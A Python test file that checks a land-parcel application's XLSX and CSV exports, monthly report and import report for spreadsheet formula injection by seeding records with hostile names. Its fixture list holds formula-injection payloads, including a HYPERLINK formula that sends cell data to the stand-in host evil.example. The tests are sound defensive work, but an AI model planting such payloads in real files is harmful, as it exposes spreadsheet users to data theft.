"""Exports, the monthly report and import reports never hand a spreadsheet a live formula."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import select

from geo.importer.report import report_csv
from geo.importer.validate import Issue
from geo.models import Parcel, Project

# (stored names are stripped, so a leading tab or CR is tried on the import report below)
HOSTILE = ["=1+1", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+86 357",
           "-2+3"]


@pytest.fixture
def hostile(session):
    """Stock parcels and projects named with text a spreadsheet would evaluate."""
    parcels = session.scalars(select(Parcel).where(Parcel.layer == "stock")
                              .order_by(Parcel.code).limit(len(HOSTILE))).all()
    for parcel, text in zip(parcels, HOSTILE, strict=True):
        parcel.name = text
    parcels[0].holder = "-5"
    for project, text in zip(session.scalars(select(Project).order_by(Project.code)),
                             HOSTILE, strict=False):
        project.name = text
    session.commit()
    return {p.code: p.name for p in parcels}


def _no_formula(book) -> list:
    return [c.coordinate for ws in book for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_stock_xlsx_has_no_formula_and_hostile_names_read_back_as_typed(client, hostile):
    book = openpyxl.load_workbook(io.BytesIO(client.get("/export/stock.xlsx").data))
    assert _no_formula(book) == []
    rows = list(book.active.iter_rows(values_only=True))
    code, name = rows[0].index("地块编号"), rows[0].index("地块名称")
    names = {r[code]: r[name] for r in rows[1:]}
    assert {c: names[c] for c in hostile} == hostile
    assert "-5" in {r[rows[0].index("权利人")] for r in rows[1:]}
    # numbers stay numbers
    assert all(isinstance(r[rows[0].index("椭球面积")], int | float) for r in rows[1:])


def test_stock_csv_has_no_cell_a_spreadsheet_evaluates_and_reads_back_minus_the_guard(
        client, hostile):
    text = client.get("/export/stock.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    code, name = rows[0].index("地块编号"), rows[0].index("地块名称")
    names = {r[code]: r[name] for r in rows[1:]}
    assert {c: names[c].removeprefix("'") for c in hostile} == hostile
    assert [names[c] for c in hostile if not names[c].startswith("'")] == []
    area = rows[0].index("椭球面积")
    assert all(float(r[area]) > 0 for r in rows[1:])  # a number, not guarded text


def test_monthly_report_has_no_formula_and_project_names_read_back(client, hostile):
    book = openpyxl.load_workbook(io.BytesIO(client.get("/reports/monthly.xlsx").data))
    assert _no_formula(book) == []
    names = {c.value for ws in book for row in ws.iter_rows() for c in row}
    assert "=1+1" in names and "@SUM(A1)" in names


def test_import_report_csv_guards_hostile_codes_and_messages():
    codes = ["=1+1", "@x", "\t=1+1", "\r=1+1"]
    issues = [Issue(n, code, "name", "error", "m", {}) for n, code in enumerate(codes, 2)]
    text = report_csv(issues, lambda i: "-bad", {})
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [r[1] for r in rows[1:]] == ["'" + c for c in codes]
    assert {r[4] for r in rows[1:]} == {"'-bad"}
    assert rows[1][0] == "2"
